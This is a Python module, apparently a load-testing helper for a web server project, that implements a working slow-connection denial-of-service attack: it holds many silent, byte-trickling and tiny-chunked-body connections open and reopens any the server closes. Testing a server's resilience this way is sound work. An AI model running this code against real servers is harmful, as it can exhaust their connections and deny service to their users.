"""Clients that only take places or time.

They send nothing, a byte now and then, or bodies of very small chunks.
"""

from __future__ import annotations

import selectors
import socket
import threading
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import cycle
from types import TracebackType
from typing import Self
from urllib.parse import urlsplit

from charts.web.connections.limits import most_files

TURN_SECONDS = 0.25
HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
TRICKLE = (HEAD[:1], HEAD[1:2], HEAD[2:3], HEAD[3:], *[b"x"] * 20)
BODY = (
    b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n",
    *[b"1\r\na\r\n" * 40_000] * 20,
)


class Sender:
    """What a connection sends, a part in each turn, and then again from the start."""

    def __init__(self, sent: tuple[bytes, ...]) -> None:
        self.sent = sent
        self._parts = cycle(sent)

    def send(self, connection: object) -> None:
        """Send the next part, if there is any and the system takes it."""
        assert isinstance(connection, socket.socket)
        # If the connection is closed, the next turn finds that out.
        with suppress(OSError):
            connection.send(next(self._parts, b""))


@dataclass(slots=True)
class Attack:
    """Silent and trickling connections, and bodies; what the server closes is opened again.

    ``opened`` is how many there have been.
    """

    address: str
    silent: int
    trickling: int
    bodies: int
    opened: int = 0
    _over: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __enter__(self) -> Self:
        most_files(self.silent + self.trickling + self.bodies + 200)
        self._thread = threading.Thread(target=self._run)
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._over.set()
        if self._thread is not None:
            self._thread.join()

    def _run(self) -> None:
        with selectors.DefaultSelector() as selector:
            for sent, number in (((), self.silent), (TRICKLE, self.trickling), (BODY, self.bodies)):
                for _ in range(number):
                    self._open(selector, sent)
            while not self._over.wait(TURN_SECONDS):
                self._turn(selector)
            for key in list(selector.get_map().values()):
                _close(key.fileobj)

    def _turn(self, selector: selectors.BaseSelector) -> None:
        """Send a byte where bytes are sent, and open again what the server has closed."""
        for key, _ in selector.select(0):
            if _is_closed(key.fileobj):
                selector.unregister(key.fileobj)
                _close(key.fileobj)
                self._open(selector, key.data.sent)
        for key in list(selector.get_map().values()):
            key.data.send(key.fileobj)

    def _open(self, selector: selectors.BaseSelector, sent: tuple[bytes, ...]) -> None:
        place = urlsplit(self.address)
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((place.hostname or "", place.port or 0))
        selector.register(connection, selectors.EVENT_READ, Sender(sent))
        self.opened += 1


def _is_closed(connection: object) -> bool:
    assert isinstance(connection, socket.socket)
    try:
        return connection.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def _close(connection: object) -> None:
    assert isinstance(connection, socket.socket)
    connection.close()
